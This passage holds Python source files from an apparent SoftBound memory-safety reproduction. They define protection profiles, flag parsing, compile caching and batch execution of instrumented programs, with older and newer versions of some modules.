        share one compiled program per source."""
        return self.config

    # -- constructors --------------------------------------------------

    @staticmethod
    def from_name(name):
        """Look up a registered profile; raises ``KeyError`` with the
        known names for typos."""
        try:
            return PROFILES[name]
        except KeyError:
            raise KeyError(f"unknown profile {name!r}; known profiles: "
                           f"{', '.join(PROFILES)}") from None

    @staticmethod
    def from_config(config, observer_factory=None):
        """Wrap an arbitrary :class:`SoftBoundConfig` (or ``None``),
        canonicalizing to the registered profile when one matches."""
        if config is None and observer_factory is None:
            return PROFILES["none"]
        for profile in PROFILES.values():
            if profile.config == config \
                    and profile.observer_factory is observer_factory:
                return profile
        name = config.label.lower() if config is not None else \
            getattr(observer_factory, "__name__", "observer").lower()
        return ProtectionProfile(
            name=f"custom-{name}",
            description="ad-hoc configuration",
            config=config,
            observer_factory=observer_factory,
            family="softbound" if config is not None else "baseline")

    @staticmethod
    def from_flags(softbound=False, store_only=False, hash_table=False,
                   temporal=False, fnptr_signatures=False,
                   shrink_bounds=True, **unknown):
        """The CLI's flag pile, parsed once.  Any protection-implying
        flag turns instrumentation on (``--store-only`` alone means
        store-only SoftBound, exactly as before); the result is
        canonicalized to a registered profile when one matches.

        Unknown flags and conflicting combinations raise a single
        :class:`UsageError` (the CLI's exit 64) instead of silently
        falling through to a default profile with less protection than
        the caller asked for.
        """
        if unknown:
            raise UsageError(
                f"unknown protection flag(s): {', '.join(sorted(unknown))}; "
                f"known flags: softbound, store_only, hash_table, temporal, "
                f"fnptr_signatures, shrink_bounds")
        if store_only and temporal:
            raise UsageError(
                "conflicting flags: temporal (lock-and-key) checking "
                "requires full checking — store-only mode skips load "
                "checks and would silently miss use-after-free reads; "
                "drop --store-only or --temporal")
        wants_softbound = (softbound or store_only or hash_table
                           or fnptr_signatures or not shrink_bounds
                           or bool(temporal))
        if not wants_softbound:
            return PROFILES["none"]
        config = SoftBoundConfig(
            mode=CheckMode.STORE_ONLY if store_only else CheckMode.FULL,
            scheme=(MetadataScheme.HASH_TABLE if hash_table
                    else MetadataScheme.SHADOW_SPACE),
            shrink_bounds=shrink_bounds,
            encode_fnptr_signature=fnptr_signatures,
            temporal=bool(temporal),
        )
        return ProtectionProfile.from_config(config)


def as_profile(profile):
    """Coerce any caller-supplied protection spec — a profile, a profile
    name, a raw :class:`SoftBoundConfig`, or ``None`` — to a profile."""
    if isinstance(profile, ProtectionProfile):
        return profile
    if isinstance(profile, str):
        return ProtectionProfile.from_name(profile)
    return ProtectionProfile.from_config(profile)


class _ProfileRegistry(Mapping):
    """A live, read-only view of the policy registry as profiles.

    Profiles are memoized per policy so lookups return *the same*
    instance every time (``from_name(p.name) is PROFILES[p.name]`` —
    identity matters to the compile caches), and the view re-syncs on
    every access so a policy registered mid-session (a test, an
    interactively loaded plugin) appears without restarting.
    """

    def __init__(self):
        self._cache = {}

    def _profiles(self):
        from ..policy import all_policies

        policies = {policy.name: policy for policy in all_policies()}
        for name in list(self._cache):
            if name not in policies:  # unregistered (tests): drop it
                del self._cache[name]
        for name, policy in policies.items():
            if name not in self._cache:
                self._cache[name] = ProtectionProfile(
                    name=name,
                    description=policy.description,
                    config=policy.config,
                    observer_factory=policy.observer_factory,
                    family=policy.family)
        return self._cache

    def __getitem__(self, name):
        return self._profiles()[name]

    def __iter__(self):
        return iter(self._profiles())

    def __len__(self):
        return len(self._profiles())


#: The registry view, in registration order (spatial matrix, temporal,
#: baselines, then plugins).  Derived from :mod:`repro.policy`; register
#: policies there instead of mutating this.
PROFILES = _ProfileRegistry()


def all_profiles():
    """Registered profiles in registration order."""
    return tuple(PROFILES.values())
