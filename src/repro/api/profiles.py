"""Protection profiles: the whole configuration space, by name.

A :class:`ProtectionProfile` bundles everything one run needs to decide
how a program is protected: the :class:`SoftBoundConfig` to instrument
with (or ``None``), and — for the observer-style baselines the paper
compares against — a factory for the per-run checker observer.  The
registry covers every variant previously reachable by hand-assembling
configs: the spatial/temporal SoftBound matrix, the store-only modes,
both metadata facilities, and each baseline in :mod:`repro.baselines`.

The CLI, the harness tables and the benchmarks all select protection by
profile (``from_name``/``from_flags``) instead of constructing
``SoftBoundConfig`` variants ad hoc; ad-hoc configs remain expressible
through :func:`ProtectionProfile.from_config`.
"""

from dataclasses import dataclass

from ..softbound.config import (
    FULL_HASH,
    FULL_SHADOW,
    STORE_HASH,
    STORE_SHADOW,
    TEMPORAL_HASH,
    TEMPORAL_SHADOW,
    CheckMode,
    MetadataScheme,
    SoftBoundConfig,
)


@dataclass(frozen=True)
class ProtectionProfile:
    """One named point in the protection space.

    ``config`` is the :class:`SoftBoundConfig` the toolchain instruments
    with (``None`` for an uninstrumented build); ``observer_factory``
    builds a fresh baseline-checker observer per run (``None`` when the
    profile is transform-based).  Profiles are frozen and picklable, so
    batch execution can ship them to worker processes as-is.
    """

    name: str
    description: str
    config: object = None
    observer_factory: object = None
    #: "none", "softbound" or "baseline" — coarse grouping for listings.
    family: str = "softbound"

    @property
    def is_protected(self):
        return self.config is not None or self.observer_factory is not None

    @property
    def label(self):
        """The config's evaluation-matrix label, or the profile name."""
        if self.config is not None:
            return self.config.label
        return self.name

    def make_observers(self):
        """Fresh per-run observers (observers carry per-run state)."""
        return (self.observer_factory(),) if self.observer_factory else ()

    def cache_key(self):
        """Hashable identity for compiled-program caches: profiles with
        equal keys instrument identically.  Observers are runtime-only
        (attached per run, never baked into the module), so the key is
        the instrumentation config alone — all observer-based profiles
        share one compiled program per source."""
        return self.config

    # -- constructors --------------------------------------------------

    @staticmethod
    def from_name(name):
        """Look up a registered profile; raises ``KeyError`` with the
        known names for typos."""
        try:
            return PROFILES[name]
        except KeyError:
            raise KeyError(f"unknown profile {name!r}; known profiles: "
                           f"{', '.join(PROFILES)}") from None

    @staticmethod
    def from_config(config, observer_factory=None):
        """Wrap an arbitrary :class:`SoftBoundConfig` (or ``None``),
        canonicalizing to the registered profile when one matches."""
        if config is None and observer_factory is None:
            return PROFILES["none"]
        for profile in PROFILES.values():
            if profile.config == config \
                    and profile.observer_factory is observer_factory:
                return profile
        name = config.label.lower() if config is not None else \
            getattr(observer_factory, "__name__", "observer").lower()
        return ProtectionProfile(
            name=f"custom-{name}",
            description="ad-hoc configuration",
            config=config,
            observer_factory=observer_factory,
            family="softbound" if config is not None else "baseline")

    @staticmethod
    def from_flags(softbound=False, store_only=False, hash_table=False,
                   temporal=False, fnptr_signatures=False,
                   shrink_bounds=True):
        """The CLI's flag pile, parsed once.  Any protection-implying
        flag turns instrumentation on (``--store-only`` alone means
        store-only SoftBound, exactly as before); the result is
        canonicalized to a registered profile when one matches."""
        wants_softbound = (softbound or store_only or hash_table
                           or fnptr_signatures or not shrink_bounds
                           or bool(temporal))
        if not wants_softbound:
            return PROFILES["none"]
        config = SoftBoundConfig(
            mode=CheckMode.STORE_ONLY if store_only else CheckMode.FULL,
            scheme=(MetadataScheme.HASH_TABLE if hash_table
                    else MetadataScheme.SHADOW_SPACE),
            shrink_bounds=shrink_bounds,
            encode_fnptr_signature=fnptr_signatures,
            temporal=bool(temporal),
        )
        return ProtectionProfile.from_config(config)


def as_profile(profile):
    """Coerce any caller-supplied protection spec — a profile, a profile
    name, a raw :class:`SoftBoundConfig`, or ``None`` — to a profile."""
    if isinstance(profile, ProtectionProfile):
        return profile
    if isinstance(profile, str):
        return ProtectionProfile.from_name(profile)
    return ProtectionProfile.from_config(profile)


#: Full spatial + temporal + the function-pointer signature extension:
#: every dynamic check the system implements, on at once.
FULL_PROTECTION = SoftBoundConfig(
    CheckMode.FULL, MetadataScheme.SHADOW_SPACE,
    encode_fnptr_signature=True, temporal=True)


def _builtin_profiles():
    from ..baselines import JonesKellyChecker, MudflapChecker, ValgrindChecker
    from ..baselines.fatptr import NAIVE_FATPTR_CONFIG, WILD_FATPTR_CONFIG
    from ..baselines.mscc import MSCC_CONFIG

    profiles = [
        ProtectionProfile(
            "none", "uninstrumented build, no checking", family="none"),
        ProtectionProfile(
            "spatial", "SoftBound full spatial checking, shadow space",
            config=FULL_SHADOW),
        ProtectionProfile(
            "spatial-hash", "SoftBound full spatial checking, hash table",
            config=FULL_HASH),
        ProtectionProfile(
            "spatial-store-only",
            "metadata fully propagated, only stores checked (shadow space)",
            config=STORE_SHADOW),
        ProtectionProfile(
            "store-only-hash",
            "metadata fully propagated, only stores checked (hash table)",
            config=STORE_HASH),
        ProtectionProfile(
            "temporal",
            "spatial + lock-and-key temporal checking, shadow space",
            config=TEMPORAL_SHADOW),
        ProtectionProfile(
            "temporal-hash",
            "spatial + lock-and-key temporal checking, hash table",
            config=TEMPORAL_HASH),
        ProtectionProfile(
            "full",
            "everything on: spatial + temporal + fn-pointer signatures",
            config=FULL_PROTECTION),
        ProtectionProfile(
            "mscc", "MSCC baseline (linked shadow metadata, no sub-object "
            "bounds)", config=MSCC_CONFIG, family="baseline"),
        ProtectionProfile(
            "fatptr-naive", "SafeC-style inline fat pointers (clobberable "
            "metadata)", config=NAIVE_FATPTR_CONFIG, family="baseline"),
        ProtectionProfile(
            "fatptr-wild", "CCured-style WILD fat pointers (tag bits)",
            config=WILD_FATPTR_CONFIG, family="baseline"),
        ProtectionProfile(
            "valgrind", "Valgrind-style heap addressability observer",
            observer_factory=ValgrindChecker, family="baseline"),
        ProtectionProfile(
            "mudflap", "Mudflap-style object-table observer",
            observer_factory=MudflapChecker, family="baseline"),
        ProtectionProfile(
            "jones-kelly", "Jones-Kelly object-table observer (splay tree)",
            observer_factory=JonesKellyChecker, family="baseline"),
    ]
    return {p.name: p for p in profiles}


#: The registry, in presentation order (spatial matrix, temporal,
#: baselines).  Treat as read-only; ad-hoc configs go through
#: :func:`ProtectionProfile.from_config` instead of mutating this.
PROFILES = _builtin_profiles()


def all_profiles():
    """Registered profiles in presentation order."""
    return tuple(PROFILES.values())
