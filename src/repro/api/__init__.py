"""``repro.api`` — the unified public facade.

One stable, composable surface over the whole reproduction; everything
the CLI, the harness tables, the benchmarks and the examples do goes
through here.

The pieces:

* :class:`ProtectionProfile` / :data:`PROFILES` — the configuration
  space as a declarative registry (``from_name``/``from_flags``), from
  uninstrumented through full spatial+temporal SoftBound to each
  baseline checker.
* :class:`Toolchain` — the staged compilation pipeline (parse →
  typecheck → lower → optimize → instrument → post-optimize) with
  observer hooks and retrievable per-stage artifacts.
* :class:`RunReport` / :class:`BatchReport` — structured results
  (trap kind, dynamic cost, pass stats, wallclock) with ``to_json()``
  in the recorded ``bench-v2`` schema.
* :class:`Session` — a compiled-program cache plus ``run_many`` batch
  execution over the process-pool fan-out.
* :func:`resolve_env` — the one place ``REPRO_ENGINE``/``REPRO_JOBS``
  are parsed (flag > environment > default).

Quickstart::

    from repro.api import Session

    session = Session()
    report = session.run(C_SOURCE, profile="spatial")
    if report.detected_violation:
        print("stopped:", report.trap)

The legacy ``repro.compile_program``/``compile_and_run`` entry points
remain as byte-identical shims over this facade.
"""

from .env import (
    DEFAULT_ENGINE,
    DEFAULT_JOBS,
    DEFAULT_STORE,
    ENGINES,
    ResolvedEnv,
    ResolvedServe,
    resolve_engine,
    resolve_env,
    resolve_jobs,
    resolve_serve,
    resolve_store,
)
from .profiles import (
    FULL_PROTECTION,
    PROFILES,
    ProtectionProfile,
    UsageError,
    all_profiles,
    as_profile,
)
from .reports import BatchReport, RunReport, report_from_result
from .session import (
    DEFAULT_CACHE_ENTRIES,
    RunRequest,
    Session,
    execute_run_request,
    open_store,
    run_compiled,
    run_source,
)
from .toolchain import (
    STAGES,
    CompiledProgram,
    Toolchain,
    ToolchainObserver,
    compile_source,
    compile_sources,
)

__all__ = [
    # env
    "DEFAULT_ENGINE", "DEFAULT_JOBS", "DEFAULT_STORE", "ENGINES",
    "ResolvedEnv", "ResolvedServe", "resolve_engine", "resolve_env",
    "resolve_jobs", "resolve_serve", "resolve_store",
    # profiles
    "FULL_PROTECTION", "PROFILES", "ProtectionProfile", "UsageError",
    "all_profiles", "as_profile",
    # toolchain
    "STAGES", "CompiledProgram", "Toolchain", "ToolchainObserver",
    "compile_source", "compile_sources",
    # reports
    "BatchReport", "RunReport", "report_from_result",
    # session
    "DEFAULT_CACHE_ENTRIES", "RunRequest", "Session",
    "execute_run_request", "open_store", "run_compiled", "run_source",
]
