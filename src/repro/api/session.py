"""Sessions: compiled-program caching and batch execution.

A :class:`Session` is the stateful half of the facade: it memoizes
compiles keyed by ``(source, profile, optimization level)`` so repeated
runs — overhead sweeps, detection matrices, servers replaying request
streams — pay for each toolchain invocation once, and it exposes
``run_many`` batch execution that fans independent compile+run jobs out
over worker processes via :mod:`repro.harness.parallel`, returning a
:class:`~repro.api.reports.BatchReport` whose content is identical to a
serial loop (every simulated machine is deterministic except for the
host-wallclock field).

The module-level :func:`run_source`/:func:`run_compiled` are the
sessionless one-shot forms the harness and benchmarks use when caching
is handled elsewhere.
"""

import time
import warnings
from dataclasses import dataclass, replace

from .env import resolve_env, resolve_store
from .profiles import as_profile
from .reports import BatchReport, report_from_result
from .toolchain import Toolchain, compile_source

#: Bound on the in-process compiled-program LRU (entries, not bytes:
#: modules are small and the bound exists to stop unbounded growth in
#: long-lived sessions like the serve daemon, not to meter memory).
DEFAULT_CACHE_ENTRIES = 256


def open_store(store_dir=None, **kwargs):
    """Open the persistent artifact store the environment selects
    (``store_dir`` flag > ``REPRO_STORE``), or return ``None`` when no
    store is configured.  Extra kwargs reach
    :class:`repro.store.ArtifactStore` (bounds, lock timeout)."""
    resolved = resolve_store(store_dir)
    if resolved is None:
        return None
    from ..store import ArtifactStore

    return ArtifactStore(resolved, **kwargs)


def run_compiled(compiled, profile=None, name="program", input_data=b"",
                 entry="main", engine=None, observers=(), **kwargs):
    """Run a :class:`~repro.api.toolchain.CompiledProgram` once under a
    profile's runtime observers; returns a
    :class:`~repro.api.reports.RunReport`."""
    profile = as_profile(profile)
    run_observers = profile.make_observers() + tuple(observers)
    machine = compiled.instantiate(input_data=input_data,
                                   observers=run_observers, engine=engine,
                                   **kwargs)
    from ..obs import obs_block, obs_enabled
    from ..obs.trace import tracer

    span = tracer().start_span("vm.run", program=name, profile=profile.name,
                               engine=machine.engine_name)
    start = time.perf_counter()
    try:
        result = machine.run(entry=entry)
    except BaseException:
        span.finish(error=True)
        raise
    elapsed = time.perf_counter() - start
    stats = result.stats
    if stats is not None:
        span.set(instructions=stats.instructions, cost=stats.cost,
                 exit_code=result.exit_code)
    span.finish()
    report = report_from_result(result, name=name, profile=profile.name,
                                engine=machine.engine_name, compiled=compiled,
                                wallclock_seconds=elapsed)
    if obs_enabled():
        report.obs = obs_block()
    return report


def run_source(source, profile=None, name="program", input_data=b"",
               entry="main", optimize=True, verify=True, engine=None,
               observers=(), **kwargs):
    """Compile and execute in one call through the staged toolchain;
    returns a :class:`~repro.api.reports.RunReport`."""
    profile = as_profile(profile)
    compiled = compile_source(source, profile=profile, optimize=optimize,
                              verify=verify)
    return run_compiled(compiled, profile=profile, name=name,
                        input_data=input_data, entry=entry, engine=engine,
                        observers=observers, **kwargs)


@dataclass(frozen=True)
class RunRequest:
    """One batch item: a named program to run under a profile.

    Frozen and picklable, so :meth:`Session.run_many` can ship requests
    to worker processes as-is.
    """

    name: str
    source: str
    profile: object = None
    input_data: bytes = b""
    entry: str = "main"
    #: None means "use the session's setting" (filled by ``resolved``).
    optimize: bool = None
    verify: bool = None
    engine: str = None
    #: Artifact-store directory batch workers consult/warm (None: no
    #: store).  Filled from the session by ``resolved``.
    store_dir: str = None

    def resolved(self, optimize, verify, engine, store_dir=None):
        """Fill session-level defaults into unset fields."""
        request = self
        if request.engine is None:
            request = replace(request, engine=engine)
        if request.optimize is None:
            request = replace(request, optimize=optimize)
        if request.verify is None:
            request = replace(request, verify=verify)
        if request.store_dir is None and store_dir is not None:
            request = replace(request, store_dir=store_dir)
        return replace(request, profile=as_profile(request.profile))


def _compile_through_store(source, profile, optimize, verify, store):
    """Compile with the persistent store consulted first: a verified
    disk hit skips the toolchain entirely; a miss (or quarantined
    corruption) compiles and warms the store.  Returns
    ``(compiled, origin)`` with origin ``"store"`` or ``"compile"``."""
    if store is not None:
        compiled = store.load(source, profile, optimize)
        if compiled is not None:
            return compiled, "store"
    compiled = Toolchain(profile=profile, optimize=optimize,
                         verify=verify).compile(source)
    if store is not None:
        store.save(source, profile, optimize, compiled)
    return compiled, "compile"


def execute_run_request(request):
    """Compile and run one :class:`RunRequest` (the worker-process entry
    point for the ``api_run`` parallel task kind).  When the request
    names a store directory the worker consults/warms it, so batch
    workers share warm artifacts across processes; a store that cannot
    even open degrades to a plain compile."""
    optimize = True if request.optimize is None else request.optimize
    verify = True if request.verify is None else request.verify
    if not request.store_dir:
        return run_source(request.source, profile=request.profile,
                          name=request.name, input_data=request.input_data,
                          entry=request.entry, optimize=optimize,
                          verify=verify, engine=request.engine)
    profile = as_profile(request.profile)
    store = None
    try:
        from ..store import ArtifactStore

        store = ArtifactStore(request.store_dir)
    except OSError as error:
        warnings.warn(f"artifact store {request.store_dir!r} unavailable "
                      f"({error}); compiling without it", RuntimeWarning,
                      stacklevel=2)
    compiled, origin = _compile_through_store(
        request.source, profile, optimize, verify, store)
    report = run_compiled(compiled, profile=profile, name=request.name,
                          input_data=request.input_data,
                          entry=request.entry, engine=request.engine)
    if store is not None:
        report.cache = {"origin": origin, "store": store.stats.as_dict()}
    return report


def _as_request(item):
    if isinstance(item, RunRequest):
        return item
    if isinstance(item, dict):
        return RunRequest(**item)
    # (name, source[, profile[, input_data]]) tuples.
    return RunRequest(*item)


class Session:
    """A compiled-program cache plus batch execution.

    ``engine``/``jobs``/``store_dir`` follow the flag > environment >
    default precedence of :func:`repro.api.resolve_env` (``store_dir``
    reads ``REPRO_STORE``); ``optimize``/``verify`` configure every
    toolchain the session builds.

    Caching is two-level: a size-bounded in-process LRU
    (``cache_entries``) in front of the optional persistent
    :class:`~repro.store.ArtifactStore` shared across processes and
    restarts.  A store that cannot open (bad permissions, unwritable
    path) degrades to in-process-only caching with a warning — the
    session never fails because its cache does.
    """

    def __init__(self, optimize=True, verify=True, engine=None, jobs=None,
                 store_dir=None, cache_entries=DEFAULT_CACHE_ENTRIES):
        self.env = resolve_env(engine=engine, jobs=jobs, store=store_dir)
        self.optimize = optimize
        self.verify = verify
        from ..obs.metrics import default_registry
        from ..store import LRUCache

        self._programs = LRUCache(max_entries=cache_entries)
        # Publish the in-process cache counters as repro_session_cache_*
        # series (weakref'd — dies with the session).
        default_registry().register_source(
            "repro_session_cache_", self._programs,
            lambda cache: {name: value
                           for name, value in cache.counters().items()
                           if isinstance(value, (int, float))})
        self.store = None
        if self.env.store is not None:
            try:
                from ..store import ArtifactStore

                self.store = ArtifactStore(self.env.store)
            except OSError as error:
                warnings.warn(
                    f"artifact store {self.env.store!r} unavailable "
                    f"({error}); falling back to the in-process cache",
                    RuntimeWarning, stacklevel=2)

    # -- compile cache -------------------------------------------------

    def compile(self, source, profile=None, optimize=None, verify=None):
        """Compile (memoized on source, profile identity and opt level);
        returns the cached :class:`CompiledProgram` on a repeat — from
        the in-process LRU first, then the persistent store, then a
        fresh toolchain run (which warms both).  ``optimize``/``verify``
        default to the session's settings.  (``verify`` is not part of
        the cache key: it only adds IR consistency checks and never
        changes the compiled output.)"""
        profile = as_profile(profile)
        optimize = self.optimize if optimize is None else optimize
        verify = self.verify if verify is None else verify
        key = (source, profile.cache_key(), optimize)
        compiled = self._programs.get(key)
        if compiled is not None:
            self._last_compile_origin = "memory"
            return compiled
        compiled, origin = _compile_through_store(
            source, profile, optimize, verify, self.store)
        self._programs.put(key, compiled)
        self._last_compile_origin = origin
        return compiled

    @property
    def cached_programs(self):
        return len(self._programs)

    def cache_counters(self):
        """Hit/miss/eviction counters for both cache levels:
        ``{"memory": {...}, "store": {...} or None}``."""
        return {
            "memory": self._programs.counters(),
            "store": (self.store.stats.as_dict()
                      if self.store is not None else None),
        }

    def clear(self):
        """Empty the in-process cache (the persistent store, being
        shared state on disk, is managed via ``python -m repro cache``
        rather than dropped as a side effect)."""
        self._programs.clear()

    # -- execution -----------------------------------------------------

    def run(self, source, profile=None, name="program", input_data=b"",
            entry="main", engine=None, **kwargs):
        """Compile (cached) and run once; returns a
        :class:`~repro.api.reports.RunReport`.  ``engine`` overrides the
        session's resolved engine for this run."""
        profile = as_profile(profile)
        compiled = self.compile(source, profile)
        report = run_compiled(compiled, profile=profile, name=name,
                              input_data=input_data, entry=entry,
                              engine=engine if engine is not None
                              else self.env.engine, **kwargs)
        report.cache = dict(self.cache_counters(),
                            origin=self._last_compile_origin)
        return report

    def run_many(self, items, jobs=None, benchmark="session-batch",
                 metric="cost_units"):
        """Run a batch of :class:`RunRequest`\\ s (or ``(name, source,
        profile)`` tuples / kwargs dicts), fanning out over worker
        processes when ``jobs`` (or the session's resolved jobs) exceeds
        one.  Results are returned in submission order inside a
        :class:`~repro.api.reports.BatchReport`; apart from host
        wallclock they are identical to a serial loop (deterministic
        machines).  Workers recompute from source; the parent's compile
        cache is untouched.  Run names must be unique — they key the
        batch report."""
        requests = [_as_request(item).resolved(self.optimize, self.verify,
                                               self.env.engine,
                                               store_dir=self.env.store)
                    for item in items]
        seen = set()
        duplicates = []
        for request in requests:
            if request.name in seen:
                duplicates.append(request.name)
            seen.add(request.name)
        if duplicates:
            raise ValueError(f"duplicate run names in batch: {duplicates}; "
                             f"reports are keyed by name")
        jobs = jobs if jobs is not None else self.env.jobs
        from ..harness.parallel import run_tasks

        if jobs <= 1:
            # In-process serial path rides the session's compile cache.
            reports = []
            for request in requests:
                report = run_compiled(
                    self.compile(request.source, request.profile,
                                 optimize=request.optimize,
                                 verify=request.verify),
                    profile=request.profile, name=request.name,
                    input_data=request.input_data,
                    entry=request.entry, engine=request.engine)
                report.cache = dict(self.cache_counters(),
                                    origin=self._last_compile_origin)
                reports.append(report)
        else:
            tasks = [("api_run", request) for request in requests]
            reports = run_tasks(tasks, jobs)
        profiles = {request.profile.name for request in requests}
        batch = BatchReport(
            benchmark=benchmark, metric=metric,
            config=profiles.pop() if len(profiles) == 1 else "mixed")
        for request, report in zip(requests, reports):
            batch.reports[request.name] = report
        return batch
