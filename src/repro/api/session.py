"""Sessions: compiled-program caching and batch execution.

A :class:`Session` is the stateful half of the facade: it memoizes
compiles keyed by ``(source, profile, optimization level)`` so repeated
runs — overhead sweeps, detection matrices, servers replaying request
streams — pay for each toolchain invocation once, and it exposes
``run_many`` batch execution that fans independent compile+run jobs out
over worker processes via :mod:`repro.harness.parallel`, returning a
:class:`~repro.api.reports.BatchReport` whose content is identical to a
serial loop (every simulated machine is deterministic except for the
host-wallclock field).

The module-level :func:`run_source`/:func:`run_compiled` are the
sessionless one-shot forms the harness and benchmarks use when caching
is handled elsewhere.
"""

import time
from dataclasses import dataclass, replace

from .env import resolve_env
from .profiles import as_profile
from .reports import BatchReport, report_from_result
from .toolchain import Toolchain, compile_source


def run_compiled(compiled, profile=None, name="program", input_data=b"",
                 entry="main", engine=None, observers=(), **kwargs):
    """Run a :class:`~repro.api.toolchain.CompiledProgram` once under a
    profile's runtime observers; returns a
    :class:`~repro.api.reports.RunReport`."""
    profile = as_profile(profile)
    run_observers = profile.make_observers() + tuple(observers)
    machine = compiled.instantiate(input_data=input_data,
                                   observers=run_observers, engine=engine,
                                   **kwargs)
    start = time.perf_counter()
    result = machine.run(entry=entry)
    elapsed = time.perf_counter() - start
    return report_from_result(result, name=name, profile=profile.name,
                              engine=machine.engine_name, compiled=compiled,
                              wallclock_seconds=elapsed)


def run_source(source, profile=None, name="program", input_data=b"",
               entry="main", optimize=True, verify=True, engine=None,
               observers=(), **kwargs):
    """Compile and execute in one call through the staged toolchain;
    returns a :class:`~repro.api.reports.RunReport`."""
    profile = as_profile(profile)
    compiled = compile_source(source, profile=profile, optimize=optimize,
                              verify=verify)
    return run_compiled(compiled, profile=profile, name=name,
                        input_data=input_data, entry=entry, engine=engine,
                        observers=observers, **kwargs)


@dataclass(frozen=True)
class RunRequest:
    """One batch item: a named program to run under a profile.

    Frozen and picklable, so :meth:`Session.run_many` can ship requests
    to worker processes as-is.
    """

    name: str
    source: str
    profile: object = None
    input_data: bytes = b""
    entry: str = "main"
    #: None means "use the session's setting" (filled by ``resolved``).
    optimize: bool = None
    verify: bool = None
    engine: str = None

    def resolved(self, optimize, verify, engine):
        """Fill session-level defaults into unset fields."""
        request = self
        if request.engine is None:
            request = replace(request, engine=engine)
        if request.optimize is None:
            request = replace(request, optimize=optimize)
        if request.verify is None:
            request = replace(request, verify=verify)
        return replace(request, profile=as_profile(request.profile))


def execute_run_request(request):
    """Compile and run one :class:`RunRequest` (the worker-process entry
    point for the ``api_run`` parallel task kind)."""
    optimize = True if request.optimize is None else request.optimize
    verify = True if request.verify is None else request.verify
    return run_source(request.source, profile=request.profile,
                      name=request.name, input_data=request.input_data,
                      entry=request.entry, optimize=optimize,
                      verify=verify, engine=request.engine)


def _as_request(item):
    if isinstance(item, RunRequest):
        return item
    if isinstance(item, dict):
        return RunRequest(**item)
    # (name, source[, profile[, input_data]]) tuples.
    return RunRequest(*item)


class Session:
    """A compiled-program cache plus batch execution.

    ``engine``/``jobs`` follow the flag > environment > default
    precedence of :func:`repro.api.resolve_env`; ``optimize``/``verify``
    configure every toolchain the session builds.
    """

    def __init__(self, optimize=True, verify=True, engine=None, jobs=None):
        self.env = resolve_env(engine=engine, jobs=jobs)
        self.optimize = optimize
        self.verify = verify
        self._programs = {}

    # -- compile cache -------------------------------------------------

    def compile(self, source, profile=None, optimize=None, verify=None):
        """Compile (memoized on source, profile identity and opt level);
        returns the cached :class:`CompiledProgram` on a repeat.
        ``optimize``/``verify`` default to the session's settings.
        (``verify`` is not part of the cache key: it only adds IR
        consistency checks and never changes the compiled output.)"""
        profile = as_profile(profile)
        optimize = self.optimize if optimize is None else optimize
        verify = self.verify if verify is None else verify
        key = (source, profile.cache_key(), optimize)
        compiled = self._programs.get(key)
        if compiled is None:
            compiled = Toolchain(profile=profile, optimize=optimize,
                                 verify=verify).compile(source)
            self._programs[key] = compiled
        return compiled

    @property
    def cached_programs(self):
        return len(self._programs)

    def clear(self):
        self._programs.clear()

    # -- execution -----------------------------------------------------

    def run(self, source, profile=None, name="program", input_data=b"",
            entry="main", engine=None, **kwargs):
        """Compile (cached) and run once; returns a
        :class:`~repro.api.reports.RunReport`.  ``engine`` overrides the
        session's resolved engine for this run."""
        profile = as_profile(profile)
        compiled = self.compile(source, profile)
        return run_compiled(compiled, profile=profile, name=name,
                            input_data=input_data, entry=entry,
                            engine=engine if engine is not None
                            else self.env.engine, **kwargs)

    def run_many(self, items, jobs=None, benchmark="session-batch",
                 metric="cost_units"):
        """Run a batch of :class:`RunRequest`\\ s (or ``(name, source,
        profile)`` tuples / kwargs dicts), fanning out over worker
        processes when ``jobs`` (or the session's resolved jobs) exceeds
        one.  Results are returned in submission order inside a
        :class:`~repro.api.reports.BatchReport`; apart from host
        wallclock they are identical to a serial loop (deterministic
        machines).  Workers recompute from source; the parent's compile
        cache is untouched.  Run names must be unique — they key the
        batch report."""
        requests = [_as_request(item).resolved(self.optimize, self.verify,
                                               self.env.engine)
                    for item in items]
        seen = set()
        duplicates = []
        for request in requests:
            if request.name in seen:
                duplicates.append(request.name)
            seen.add(request.name)
        if duplicates:
            raise ValueError(f"duplicate run names in batch: {duplicates}; "
                             f"reports are keyed by name")
        jobs = jobs if jobs is not None else self.env.jobs
        from ..harness.parallel import run_tasks

        if jobs <= 1:
            # In-process serial path rides the session's compile cache.
            reports = [
                run_compiled(self.compile(request.source, request.profile,
                                          optimize=request.optimize,
                                          verify=request.verify),
                             profile=request.profile, name=request.name,
                             input_data=request.input_data,
                             entry=request.entry, engine=request.engine)
                for request in requests
            ]
        else:
            tasks = [("api_run", request) for request in requests]
            reports = run_tasks(tasks, jobs)
        profiles = {request.profile.name for request in requests}
        batch = BatchReport(
            benchmark=benchmark, metric=metric,
            config=profiles.pop() if len(profiles) == 1 else "mixed")
        for request, report in zip(requests, reports):
            batch.reports[request.name] = report
        return batch
