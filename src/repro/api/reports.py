"""Structured run results: :class:`RunReport` and :class:`BatchReport`.

A :class:`RunReport` is the facade's answer to "what happened when this
program ran under this profile": outcome (exit code, output, trap kind),
dynamic cost statistics (the paper's cost-model counters), static pass
statistics, and host wallclock.  Reports are plain picklable dataclasses
— batch execution ships them across process boundaries — and
``to_json()`` emits the normalized row format every recorded
``BENCH_*.json`` uses, so :class:`BatchReport.to_json` produces a
``bench-v2`` document ``scripts/bench_diff.py`` consumes directly.
"""

import json
import math
from dataclasses import asdict, dataclass, field

from ..vm.errors import ATTACK_EXIT_CODE, TrapKind


def _stats_dict(stats):
    return None if stats is None else asdict(stats)


@dataclass
class RunReport:
    """Outcome of one program execution under one protection profile."""

    #: Caller-supplied run label (workload name, file path, ...).
    name: str
    #: Name of the :class:`~repro.api.profiles.ProtectionProfile` used.
    profile: str
    #: VM engine the run executed on ("compiled" or "interp").
    engine: str
    exit_code: int = 0
    output: str = ""
    #: The full :class:`~repro.vm.errors.Trap`, or None for clean runs.
    trap: object = None
    #: Dynamic :class:`~repro.vm.costs.CostStats` of the run.
    stats: object = None
    #: Pre-instrumentation optimizer PassStats (None if optimize=False).
    pass_stats: object = None
    #: Post-instrumentation cleanup PassStats (None when uninstrumented).
    check_opt_stats: object = None
    #: Host seconds spent inside ``machine.run()`` (excludes machine
    #: instantiation, matching the wall-clock benchmarking convention).
    wallclock_seconds: float = 0.0
    #: Compile-cache provenance and counters, filled by cache-aware
    #: entry points (:class:`~repro.api.session.Session`): ``origin``
    #: ("memory" | "store" | "compile") plus the in-process LRU and
    #: persistent-store hit/miss/corrupt/eviction counters.  ``None``
    #: for sessionless one-shot runs.
    cache: dict = None
    #: Observability block (metrics snapshot + trace summary), filled
